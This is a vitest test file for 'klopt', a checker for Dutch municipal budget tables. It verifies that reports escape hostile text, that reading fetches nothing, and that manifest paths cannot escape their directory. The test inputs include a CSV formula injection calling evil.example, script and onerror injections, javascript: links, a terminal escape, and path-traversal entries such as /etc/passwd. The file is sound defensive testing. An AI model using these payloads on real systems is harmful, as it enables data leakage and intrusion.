/**
 * Safety (issue 9, part 4): reading never fetches or runs anything a document names; reports
 * show document text without letting it act (CSV formulas, HTML/markdown); manifest paths stay
 * inside the manifest's directory unless --allow-outside-manifest.
 */
import { spawn, spawnSync } from 'node:child_process';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { processFile } from '../src/pipeline/index.js';
import { readManifest } from '../src/pipeline/metadata.js';
import { renderCsv, renderReport } from '../src/report/index.js';
import { HENGELO_2023, cellPerLine, SAMPLES } from './helpers.js';

const BIN = join(import.meta.dirname, '..', 'bin', 'klopt.js');
const ROOT = join(import.meta.dirname, '..');
const klopt = (...args: string[]) => spawnSync(process.execPath, [BIN, ...args], { encoding: 'utf8', cwd: ROOT });
const tmp = () => mkdtempSync(join(tmpdir(), 'klopt-safety-'));
const CLI_TIMEOUT = 60_000;

/** A Hengelo 2023 style table whose labels are attacks; its 6.1 row has a wrong verschil. */
const HOSTILE_LABEL =
  '=HYPERLINK("http://evil.example/?"&A1,"klik") <script>alert(1)</script> [x](javascript:alert(1)) ' +
  '![i](http://evil.example/i.png) | **b** \u001b[31m';
const hostileTable = cellPerLine(
  '=HYPERLINK("http://evil.example/","6 Sociaal domein") <img src=x onerror=alert(1)>',
  ['Begroting 2023 primitief', 'Begroting 2023 gewijzigd', 'Rekening 2023', 'Verschil'],
  [
    ['Baten', '831', '21.118', '21.246', '128'],
    ['Lasten', '14.015', '24.335', '22.699', '1.636'],
    [`6.1 ${HOSTILE_LABEL}`, '-13.184', '-3.217', '-1.453', '-1.764'],
  ],
);

describe('reports escape everything that comes from a document', () => {
  const dir = tmp();
  writeFileSync(join(dir, '@SUM(A1).txt'), hostileTable);
  const doc = processFile(join(dir, '@SUM(A1).txt'), { cwd: dir });
  const errors = doc.findings.filter((f) => f.severity === 'error');

  it('the hostile row is read and its wrong verschil found, with the label as printed', () => {
    expect(errors.length).toBeGreaterThan(0);
    expect(errors.some((f) => f.row?.includes('=HYPERLINK'))).toBe(true);
  });

  it('CSV: a text cell starting with = + - @ gets a leading quote; figures like -1.764 stay numbers', () => {
    const csv = renderCsv(doc.findings);
    const rows = Papa.parse<string[]>(csv.trim()).data;
    const header = rows[0];
    const body = rows.slice(1);
    const col = (name: string) => header.indexOf(name);
    expect(body.length).toBeGreaterThan(1);
    for (const r of body) {
      expect(r[col('table')]).toMatch(/^'=HYPERLINK\("http:\/\/evil\.example\/"/);
      expect(r[col('file')]).toBe("'@SUM(A1).txt");
    }
    // no cell of the CSV can start a formula any more, except figures
    for (const r of body)
      for (const c of r)
        expect(/^[=+@\t\r]/.test(c) || (/^-/.test(c) && !/^-[\d.,]+%?$/.test(c) && c !== '-')).toBe(false);
    // numbers: expected/found stay plain signed numbers
    expect(body.some((r) => r[col('found')] === '-1764')).toBe(true);
  });

  it('markdown: no HTML, link, image or emphasis survives, and no terminal escape', () => {
    const md = renderReport({ documents: [], findings: doc.findings }, 'md');
    expect(md).not.toMatch(/<script|<img|(?<!\\)\]\(|!\[|\u001b/);
    expect(md).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(md).toContain('\\[x\\](javascript:alert(1))');
    expect(md).toContain('\\*\\*b\\*\\*');
    // every table row of the findings still has its 10 columns: the label's | did not split it
    for (const line of md.split('\n').filter((l) => l.startsWith('| error')))
      expect(line.split(/(?<!\\)\|/).length).toBe(12);
  });
});

describe('reading never fetches what a document names', () => {
  it(
    'a document full of URLs, scripts and images: no request reaches the server it names',
    async () => {
      const hits: string[] = [];
      const server = createServer((req, res) => {
        hits.push(req.url ?? '');
        res.end('x');
      });
      await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      const dir = tmp();
      const bait = `<html><head><script src="${url}/script.js"></script><link rel=stylesheet href="${url}/s.css"><meta http-equiv="refresh" content="0;url=${url}/refresh"></head>
<body onload="fetch('${url}/onload')"><img src="${url}/img.png"><iframe src="${url}/frame"></iframe><script>fetch('${url}/inline')</script>
${url}/plain-text-url
</body></html>\n`;
      // A text dump carrying the bait (a dump that opened with it would be an HTML page by content),
      // the page itself, and the page saved as .txt (read as HTML: routed by content).
      writeFileSync(join(dir, 'bait.txt'), `${readFileSync(HENGELO_2023, 'utf8')}\n${bait}`);
      writeFileSync(join(dir, 'bait.html'), bait);
      writeFileSync(join(dir, 'bait-page.txt'), bait);
      writeFileSync(join(dir, 'bait.md'), `![x](${url}/md.png) [y](${url}/link)\n`);
      // async spawn: the server must keep answering while klopt runs
      const child = spawn(process.execPath, [BIN, 'check', dir, join(dir, 'bait.html'), '--format', 'json'], {
        cwd: ROOT,
      });
      let stdout = '';
      child.stdout.on('data', (d) => (stdout += d));
      const code = await new Promise<number | null>((r) => child.on('close', r));
      await new Promise((r) => setTimeout(r, 200));
      server.close();
      expect(code).toBe(1); // the Hengelo errors
      expect(JSON.parse(stdout).documents).toHaveLength(4);
      expect(hits).toEqual([]);
    },
    CLI_TIMEOUT,
  );
});

describe('manifest paths stay inside the manifest directory', () => {
  function setup(entry: string) {
    const root = tmp();
    const dir = join(root, 'docs');
    mkdirSync(dir);
    copyFileSync(HENGELO_2023, join(dir, 'hengelo.txt'));
    copyFileSync(HENGELO_2023, join(root, 'outside.txt'));
    symlinkSync(join(root, 'outside.txt'), join(dir, 'link.txt'));
    const manifest = join(dir, 'manifest.csv');
    writeFileSync(
      manifest,
      `file,gemeente,document_type,jaar,programma,source_format\nhengelo.txt,Hengelo,jaarstukken,2023,6 ` +
        `Sociaal domein,html-text\n${entry},Elders,begroting,2020,,html-text\n`,
    );
    return { root, dir, manifest };
  }

  for (const [what, entry] of [
    ['a ../ path', '../outside.txt'],
    ['an absolute path', '/etc/passwd'],
    ['a symbolic link out', 'link.txt'],
  ] as const) {
    it(`${what} is refused with the manifest line, unless allowed`, () => {
      const { manifest, root } = setup(entry);
      expect(() => readManifest(manifest)).toThrow(
        `${manifest}:3: file "${entry}" lies outside the manifest's directory`,
      );
      const allowed = readManifest(manifest, { allowOutside: true });
      expect([...allowed.values()].map((e) => e.gemeente)).toEqual(['Hengelo', 'Elders']);
      void root;
    });
  }

  it(
    'through the CLI: exit 2 naming the manifest line; --allow-outside-manifest reads it',
    () => {
      const { manifest, root } = setup('../outside.txt');
      const refused = klopt('check', join(root, 'docs', 'hengelo.txt'), '--manifest', manifest, '--fail-on', 'never');
      expect(refused.status).toBe(2);
      expect(refused.stderr).toContain(`${manifest}:3: file "../outside.txt" lies outside`);
      const allowed = klopt(
        'check',
        join(root, 'outside.txt'),
        '--manifest',
        manifest,
        '--allow-outside-manifest',
        '--format',
        'json',
        '--fail-on',
        'never',
      );
      expect(allowed.status).toBe(0);
      expect(JSON.parse(allowed.stdout).documents[0]).toMatchObject({ gemeente: 'Elders', metadataSource: 'manifest' });
    },
    CLI_TIMEOUT,
  );

  it('the bundled samples manifest passes', () => {
    expect(readManifest(join(SAMPLES, 'manifest.csv')).size).toBe(5);
  });
});
